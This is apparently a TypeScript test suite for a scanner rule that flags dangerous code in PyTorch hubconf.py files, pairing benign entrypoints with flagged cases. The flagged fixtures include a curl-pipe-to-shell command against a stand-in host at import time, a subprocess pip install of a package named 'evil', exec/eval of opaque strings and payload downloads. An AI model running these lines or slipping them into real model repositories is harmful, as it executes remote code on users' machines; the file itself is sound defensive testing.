// hubconf.py review (fileKind 'hubconf'): what torch.hub runs at import time or inside an entrypoint.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { signalsFor, assertRuleCase, type RuleCase } from './signal-helpers.js';

const valid: RuleCase[] = [
  {
    name: 'local-only entrypoints',
    src: [
      'import torch.nn as nn',
      'dependencies = ["torch"]',
      'def tiny(pretrained=False):',
      '    return nn.Linear(2, 2)',
    ],
    expect: [],
  },
  {
    name: 'import_module with a literal name',
    src: [
      'import importlib',
      'models = importlib.import_module("torchvision.models")',
      'def m():',
      '    return models.resnet18()',
    ],
    expect: [],
  },
  {
    name: 'process under the main guard (not run by torch.hub)',
    src: ['import os', 'def m():', '    return 1', 'if __name__ == "__main__":', '    os.system("pytest")'],
    expect: [],
  },
  {
    name: 'pinned hub url weights with weights_only=True',
    src: [
      'import torch',
      'def m():',
      '    return torch.hub.load_state_dict_from_url(URL, weights_only=True, check_hash=True)',
    ],
    expect: [],
  },
];

const invalid: RuleCase[] = [
  {
    name: 'os.system at import time',
    src: ['import os', 'os.system("curl -fsS http://x.invalid/s.sh | sh")', 'def m():', '    return 1'],
    expect: [[2, 'high']],
    details: { category: 'process', runsAt: 'import', api: 'os.system' },
    message: 'at import time',
  },
  {
    name: 'subprocess in an entrypoint',
    src: ['import subprocess', 'def resnet(**kw):', '    subprocess.run(["make"])', '    return None'],
    expect: [[3, 'high']],
    details: { runsAt: 'entrypoint', entrypoint: 'resnet' },
  },
  {
    name: 'pip install through subprocess',
    src: ['import subprocess, sys', 'subprocess.check_call([sys.executable, "-m", "pip", "install", "evil==1.0"])'],
    expect: [[2, 'high']],
    details: { category: 'pip-install' },
  },
  {
    name: 'exec in a helper',
    src: ['def _prepare(code):', '    exec(code)', 'def model():', '    _prepare(SRC)'],
    expect: [[2, 'high']],
    details: { category: 'code', runsAt: 'helper', entrypoint: '_prepare' },
  },
  {
    name: 'eval in a class body',
    src: ['class Cfg:', '    x = eval(TEXT)'],
    expect: [[2, 'high']],
    details: { runsAt: 'import' },
  },
  {
    name: 'import_module with a computed name',
    src: ['import importlib', 'def m(name):', '    return importlib.import_module(name)'],
    expect: [[3, 'medium']],
    details: { category: 'dynamic-import' },
  },
  { name: '__import__ with a computed name', src: ['mod = __import__(NAME)'], expect: [[1, 'medium']] },
  {
    name: 'urllib download at import',
    src: ['import urllib.request as u', 'payload = u.urlopen("http://x.invalid/p").read()'],
    expect: [[2, 'medium']],
    details: { category: 'download' },
  },
  {
    name: 'requests session download in an entrypoint',
    src: ['import requests', 'def m():', '    s = requests.Session()', '    return requests.Session().get(URL)'],
    expect: [[4, 'medium']],
  },
  {
    name: 'torch.hub.download_url_to_file in an entrypoint',
    src: ['import torch', 'def m():', '    torch.hub.download_url_to_file(URL, "/tmp/x.py")'],
    expect: [[3, 'medium']],
  },
];

const run = (c: RuleCase): Promise<void> => assertRuleCase('TORCH-HUB-DYNAMIC-IMPORT', c, 'hubconf');

describe('hubconf.py review valid', () => {
  for (const c of valid) it(c.name, () => run(c));
});

describe('hubconf.py review invalid', () => {
  for (const c of invalid) it(c.name, () => run(c));
});

describe('hubconf checks apply to hubconf files only', () => {
  it('os.system in ordinary Python source is not a TORCH signal', async () => {
    assert.deepEqual(await signalsFor('import os\nos.system("ls")\n', 'python'), []);
  });
});
